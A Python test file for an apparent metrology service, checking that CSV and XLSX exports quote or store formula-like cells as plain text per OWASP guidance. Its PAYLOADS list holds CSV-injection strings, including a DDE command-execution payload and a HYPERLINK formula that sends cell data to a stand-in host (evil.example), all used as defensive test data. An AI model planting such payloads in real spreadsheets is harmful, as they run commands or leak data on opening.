"""Cells that cannot run: CSV cells quoted per OWASP and read back exactly; XLSX text as text."""

import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from metrology_svc.core.cells import csv_cell, csv_read, csv_row, runs, text_cells, xlsx_row

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_one_quote_in_front_and_loses_it_on_reading(payload: str) -> None:
    written = csv_cell(payload)
    assert written == "'" + payload
    assert not runs(written)
    assert csv_read(written) == payload


@pytest.mark.parametrize(
    "text", ["", "Cân đồng hồ", "15000", "1,5", "'", "'abc", "a=b", "x-1", "'=1", "''+1"]
)
def test_other_text_is_left_alone_and_read_back_as_written(text: str) -> None:
    assert csv_read(csv_cell(text)) == text
    if not text.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")):
        assert csv_cell(text) == text


def test_a_cell_that_already_starts_with_a_quote_then_a_formula_is_guarded_too() -> None:
    # A stored "'=1": written "''=1", read back "'=1" (not "=1").
    assert csv_cell("'=1") == "''=1"
    assert csv_read("''=1") == "'=1"


@given(st.text())
def test_any_text_survives_the_round_trip_and_never_runs(text: str) -> None:
    written = csv_cell(text)
    assert csv_read(written) == text
    assert not runs(written)


def test_through_the_csv_module_the_quoted_cells_come_back() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row([*PAYLOADS, None, 12.5]))
    back = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert [csv_read(c) for c in back] == [*PAYLOADS, "", "12.5"]
    assert all(not runs(c) for c in back)


def _formulas(path: Path) -> list[bytes]:
    with zipfile.ZipFile(path) as z:
        return [n.encode() for n in z.namelist() if b"<f>" in z.read(n) or b"<f " in z.read(n)]


def test_xlsx_text_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("a")
    sheet.append(xlsx_row(sheet, [*PAYLOADS, 3, None]))
    book.save(tmp_path / "w.xlsx")
    normal = Workbook()
    ws = normal.active
    assert ws is not None
    ws.append(PAYLOADS)
    ws.cell(row=2, column=1, value="=1+1")
    assert ws["A1"].data_type == "f"  # what openpyxl does unguarded
    text_cells(normal)
    normal.save(tmp_path / "n.xlsx")
    for name in ("w.xlsx", "n.xlsx"):
        assert _formulas(tmp_path / name) == []
        cells = list(load_workbook(tmp_path / name).worksheets[0].iter_rows(values_only=True))
        # XML reads a lone CR as LF; the text is still text.
        assert list(cells[0][: len(PAYLOADS)]) == [p.replace("\r", "\n") for p in PAYLOADS]
    read = load_workbook(tmp_path / "n.xlsx").worksheets[0]
    assert read["A2"].value == "=1+1"
    assert read["A2"].data_type == "s"
